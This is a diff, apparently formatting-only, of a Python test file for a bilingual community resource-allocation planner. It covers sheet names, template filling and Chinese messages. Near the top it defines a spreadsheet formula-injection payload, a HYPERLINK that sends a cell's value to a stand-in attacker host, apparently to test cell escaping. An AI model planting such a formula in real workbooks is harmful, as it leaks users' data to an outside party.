@@ -25,10 +25,32 @@ from linkage_opt.solving.plan import escape_cell, read_plan_csv, unescape_cell, 
 
 ROOT = Path(__file__).resolve().parents[2]
 MALICIOUS = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
-SHEETS_EN = ["Summary", "Coverage", "Allocations", "Providers", "Programs", "Unmet",
-             "Committee", "Task sheets", "Rosters", "Org notices", "Donor notices"]      # + action sheets
-SHEETS_ZH = ["概览", "需求满足", "分配明细", "资源利用", "服务项目", "未满足需求",
-             "党委摘要", "任务单", "人员排班", "机构通知", "捐赠去向"]
+SHEETS_EN = [
+    "Summary",
+    "Coverage",
+    "Allocations",
+    "Providers",
+    "Programs",
+    "Unmet",
+    "Committee",
+    "Task sheets",
+    "Rosters",
+    "Org notices",
+    "Donor notices",
+]  # + action sheets
+SHEETS_ZH = [
+    "概览",
+    "需求满足",
+    "分配明细",
+    "资源利用",
+    "服务项目",
+    "未满足需求",
+    "党委摘要",
+    "任务单",
+    "人员排班",
+    "机构通知",
+    "捐赠去向",
+]
 
 
 def run(*args: str):
@@ -136,6 +158,7 @@ def test_report_and_workbook_can_be_rewritten_in_the_other_language(malicious_pl
 
 # -- the input template ------------------------------------------------------------------------------
 
+
 def _fill(template: Path, data: Path, out: Path, lang: str) -> None:
     """Fill a template from the sample CSVs as a community worker would: values typed under the headers."""
     wb = openpyxl.load_workbook(template)
@@ -146,8 +169,7 @@ def _fill(template: Path, data: Path, out: Path, lang: str) -> None:
         ws = wb[TABLE_LABELS[table] if lang == "zh" else table]
         spec = TABLES[table]
         headers = [c.value for c in ws[1]]
-        canon = [next(col.name for col in spec.columns
-                      if h in (col.name, *col.aliases[:1])) for h in headers]
+        canon = [next(col.name for col in spec.columns if h in (col.name, *col.aliases[:1])) for h in headers]
         with open(f, encoding="utf-8-sig", newline="") as fh:
             rows = list(csv.DictReader(fh))
         for i, row in enumerate(rows, start=3):
@@ -157,8 +179,15 @@ def _fill(template: Path, data: Path, out: Path, lang: str) -> None:
                     continue
                 col = spec.column(name)
                 if lang == "zh" and col.type == "enum":
-                    v = {"guaranteed": "兜底保障", "basic": "基本服务", "improvement": "提升服务",
-                         "community": "社区", "village": "村", "funds": "资金", "goods": "物资"}[v]
+                    v = {
+                        "guaranteed": "兜底保障",
+                        "basic": "基本服务",
+                        "improvement": "提升服务",
+                        "community": "社区",
+                        "village": "村",
+                        "funds": "资金",
+                        "goods": "物资",
+                    }[v]
                 if lang == "zh" and col.type == "bool":
                     v = "是" if v.lower() == "true" else "否"
                 if col.type in ("float", "int"):
@@ -197,9 +226,12 @@ def test_filled_template_loads_unchanged(lang, tmp_path):
     got = load_scenario(tmp_path / "filled.yaml")
     want = load_scenario(ROOT / "configs" / "zhugen.yaml")
     for table in TABLE_ORDER:
-        pd.testing.assert_frame_equal(getattr(got, table).reset_index(drop=True),
-                                      getattr(want, table).reset_index(drop=True), check_dtype=False,
-                                      obj=table)
+        pd.testing.assert_frame_equal(
+            getattr(got, table).reset_index(drop=True),
+            getattr(want, table).reset_index(drop=True),
+            check_dtype=False,
+            obj=table,
+        )
 
 
 CJK = re.compile(r"[\u4e00-\u9fff]")
@@ -220,8 +252,8 @@ def test_the_chinese_template_notes_are_the_catalogs_and_read_in_chinese():
     assert not i18n.MISSES, i18n.MISSES
     for table in TABLE_ORDER:
         cols = TABLES[table].columns
-        row = [c.value for c in wb[TABLE_LABELS[table]][2]][:len(cols)]
-        row_en = [c.value for c in en[table][2]][:len(cols)]
+        row = [c.value for c in wb[TABLE_LABELS[table]][2]][: len(cols)]
+        row_en = [c.value for c in en[table][2]][: len(cols)]
         assert len(row) == len(row_en) == len(cols), table
         for j, (c, text, text_en) in enumerate(zip(cols, row, row_en)):
             where = f"{table}.{c.name}"
@@ -247,13 +279,23 @@ def test_template_refuses_to_overwrite_and_wrong_suffix(tmp_path):
 
 # -- Chinese input ------------------------------------------------------------------------------------
 
+
 def test_chinese_headers_file_names_and_values_load_like_english(tmp_path):
     en = write_scenario(tmp_path / "en")
     zh_dir = tmp_path / "zh"
     cfg_zh = write_scenario(zh_dir)
     data = zh_dir / "data"
-    zh_values = {"guaranteed": "兜底保障", "basic": "基本服务", "improvement": "提升服务", "community": "社区",
-                 "village": "村", "funds": "资金", "goods": "物资", "true": "是", "false": "否"}
+    zh_values = {
+        "guaranteed": "兜底保障",
+        "basic": "基本服务",
+        "improvement": "提升服务",
+        "community": "社区",
+        "village": "村",
+        "funds": "资金",
+        "goods": "物资",
+        "true": "是",
+        "false": "否",
+    }
     for table in TABLE_ORDER:
         f = data / f"{table}.csv"
         if not f.exists():
@@ -275,16 +317,18 @@ def test_chinese_headers_file_names_and_values_load_like_english(tmp_path):
 def test_comment_rows_are_skipped_and_rows_keep_their_numbers(tmp_path):
     def mutate(t):
         t["needs"][1]["quantity"] = "lots"
+
     cfg = write_scenario(tmp_path / "sc", tables=mutated(mutate))
     f = tmp_path / "sc" / "data" / "needs.csv"
     lines = f.read_text(encoding="utf-8-sig").splitlines()
     f.write_text("\n".join([lines[0], "# notes: one row per need", *lines[1:]]) + "\n", encoding="utf-8")
     r = run("validate", str(cfg))
     assert r.exit_code == 2
-    assert "row 4, column quantity" in r.output    # header 1, comment 2, first need 3, the bad one 4
+    assert "row 4, column quantity" in r.output  # header 1, comment 2, first need 3, the bad one 4
 
 
 # -- languages ---------------------------------------------------------------------------------------
+
 
 def test_every_message_has_both_languages():
     # the words now live in the gettext catalog: every code's word has its Chinese there
@@ -325,6 +369,7 @@ def test_input_problems_are_reported_in_chinese(tmp_path):
         t["needs"][0]["quantity"] = "很多"
         t["needs"][1]["tier"] = "urgent"
         t["volunteers"][0]["home_unit"] = "U9"
+
     cfg = write_scenario(tmp_path / "sc", tables=mutated(mutate))
     r = run("validate", str(cfg), "--lang", "zh")
     assert r.exit_code == 2
@@ -340,19 +385,32 @@ def test_whatif_and_ahp_problems_read_in_chinese(tiny_scenario, tmp_path):
 
     scenario = load_scenario(tiny_scenario)
     texts = []
-    for change in ("volunteers.hours**2", "volunteers.hourz*=2", "volunteers.hours*=x", "volunteers[skill=a].hours=1",
-                   "volunteers[volunteer_id=V9].hours=1", "volunteers.skills*=2", "volunteers.hours+=-100",
-                   "rules.budgett.amount=1", "period*=2"):
+    for change in (
+        "volunteers.hours**2",
+        "volunteers.hourz*=2",
+        "volunteers.hours*=x",
+        "volunteers[skill=a].hours=1",
+        "volunteers[volunteer_id=V9].hours=1",
+        "volunteers.skills*=2",
+        "volunteers.hours+=-100",
+        "rules.budgett.amount=1",
+        "period*=2",
+    ):
         with pytest.raises(ValidationError) as info:
             apply_change(scenario, parse_change(change))
         texts += [t for p in info.value.problems for t in (p.message, p.hint)]
-    for doc in ({"criteria": ["a", "b", "c"], "judgements": [["a", "bb", 3], ["a", "c", 12], ["a", "a", 2],
-                                                           ["a", "c", "x"], ["b"]]},
-                {"criteria": ["a", "b"], "matrix": [[1, 3], [3, 1]]},
-                {"criteria": ["a", "b"], "matrix": [[2, "y"], [1, 1]]},
-                {"criteria": ["a", "b"], "matrix": [[1, 2]]},
-                {"criteria": ["a", "a"], "matrix": [[1, 1], [1, 1]]},
-                {"criteria": ["a", "b"]}, {"matrix": []}):
+    for doc in (
+        {
+            "criteria": ["a", "b", "c"],
+            "judgements": [["a", "bb", 3], ["a", "c", 12], ["a", "a", 2], ["a", "c", "x"], ["b"]],
+        },
+        {"criteria": ["a", "b"], "matrix": [[1, 3], [3, 1]]},
+        {"criteria": ["a", "b"], "matrix": [[2, "y"], [1, 1]]},
+        {"criteria": ["a", "b"], "matrix": [[1, 2]]},
+        {"criteria": ["a", "a"], "matrix": [[1, 1], [1, 1]]},
+        {"criteria": ["a", "b"]},
+        {"matrix": []},
+    ):
         f = tmp_path / "pairwise.yaml"
         f.write_text(yaml.safe_dump(doc), encoding="utf-8")
         with pytest.raises(AhpInputError) as info:
@@ -377,15 +435,18 @@ def test_every_help_text_has_chinese_and_help_speaks_it(monkeypatch):
     missing = []
     for c in walk(app):
         texts = [c.help or inspect.getdoc(c.callback)]
-        texts += [p.default.help for p in inspect.signature(c.callback).parameters.values()
-                  if isinstance(p.default, (typer.models.OptionInfo, typer.models.ArgumentInfo)) and p.default.help]
+        texts += [
+            p.default.help
+            for p in inspect.signature(c.callback).parameters.values()
+            if isinstance(p.default, (typer.models.OptionInfo, typer.models.ArgumentInfo)) and p.default.help
+        ]
         from linkage_opt.i18n import _catalog
 
         missing += [t for t in texts if t and not _catalog("zh").get(t)]
     assert not missing, missing
     r = run("plan", "--help", "--lang", "zh")
     assert r.exit_code == 0 and "求解场景" in r.output and "选项" in r.output and "显示本帮助并退出" in r.output
-    r = run("plan", "--help")            # and back to English in the same process
+    r = run("plan", "--help")  # and back to English in the same process
     assert "Solve a scenario" in r.output and "Options" in r.output and "选项" not in r.output
     monkeypatch.setenv("LINKAGE_OPT_LANG", "zh")
     r = run("runs", "list", "--help")
